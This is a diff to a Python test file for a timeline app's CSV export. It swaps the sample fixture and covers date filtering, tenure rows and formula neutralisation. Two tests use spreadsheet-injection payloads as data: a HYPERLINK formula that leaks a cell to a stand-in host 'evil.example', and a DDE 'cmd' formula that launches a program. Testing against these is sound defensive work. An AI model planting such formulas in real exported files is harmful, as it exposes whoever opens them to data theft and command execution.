@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 
-from export_sample import sample_timeline
+from samples import rich_timeline
 
 from desktop.formats.export import ExportOptions, export_timeline, select_events
 from desktop.formats.csv_tables import EVENT_COLUMNS, QUOTE_COLUMNS, TENURE_COLUMNS, write_csv
@@ -22,7 +22,7 @@ def _read(path):
 
 
 def test_events_and_quotes_round_trip_through_the_csv_module(tmp_path):
-    t = sample_timeline()
+    t = rich_timeline()
     events_path, quotes_path, _tenures = write_csv(t, tmp_path / "tameside.csv")
     assert quotes_path.name == "tameside-quotes.csv"
     raw = events_path.read_bytes()
@@ -57,7 +57,7 @@ def test_events_and_quotes_round_trip_through_the_csv_module(tmp_path):
 
 
 def test_date_range_and_filter_choose_the_rows(tmp_path):
-    t = sample_timeline()
+    t = rich_timeline()
     options = ExportOptions("csv", date_from=PartialDate(2017), date_to=PartialDate(2019))
     # the plan (Mar 2018 to Dec 2020) overlaps; 2016 and 2022 do not
     assert [e.id for e in select_events(t, options)] == ["monitoring-2017-10", "improvement-plan"]
@@ -69,7 +69,7 @@ def test_date_range_and_filter_choose_the_rows(tmp_path):
 
 def test_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
     """An imported file's text must not become a live formula when a colleague opens the CSV."""
-    t = sample_timeline()
+    t = rich_timeline()
     event = t.events_in_order()[0]
     event.title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     event.summary = "+1 means the same"
@@ -123,7 +123,7 @@ def test_every_date_cell_is_a_full_iso_date_with_its_precision(tmp_path):
 
 
 def test_tenures_file_says_who_held_which_post_when(tmp_path):
-    t = sample_timeline()
+    t = rich_timeline()
     _events, _quotes, tenures_path = write_csv(t, tmp_path / "t.csv")
     assert tenures_path.name == "t-tenures.csv"
     rows = _read(tenures_path)
@@ -139,24 +139,24 @@ def test_tenures_file_says_who_held_which_post_when(tmp_path):
 
 def test_tenures_file_keeps_the_tenures_in_the_asked_dates(tmp_path):
     options = ExportOptions("csv", date_from=PartialDate(2019), date_to=PartialDate(2020))
-    written = export_timeline(_Doc(sample_timeline()), tmp_path / "out.csv", options)
+    written = export_timeline(_Doc(rich_timeline()), tmp_path / "out.csv", options)
     assert [p.name for p in written] == ["out.csv", "out-quotes.csv", "out-tenures.csv"]
     # Alison Gwynne left in Sep 2018; Ged Cooney (from 2021) starts after
     assert _read(written[2]) == []
     options.date_to = PartialDate(2021)
-    written = export_timeline(_Doc(sample_timeline()), tmp_path / "out.csv", options)
+    written = export_timeline(_Doc(rich_timeline()), tmp_path / "out.csv", options)
     assert [r["person"] for r in _read(written[2])] == ["Ged Cooney"]
 
 
 def test_dates_in_the_year_9999_end_on_its_last_day(tmp_path):
-    t = sample_timeline()
+    t = rich_timeline()
     t.tenures[0].end = PartialDate(9999)
     _e, _q, tenures_path = write_csv(t, tmp_path / "t.csv")
     assert _read(tenures_path)[0]["end"] == "9999-12-31"
 
 
 def test_tenure_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
-    t = sample_timeline()
+    t = rich_timeline()
     t.tenures[0].note = "=cmd|' /C calc'!A0"
     t.people[0].name = "@Ged Cooney"
     _e, _q, tenures_path = write_csv(t, tmp_path / "t.csv")
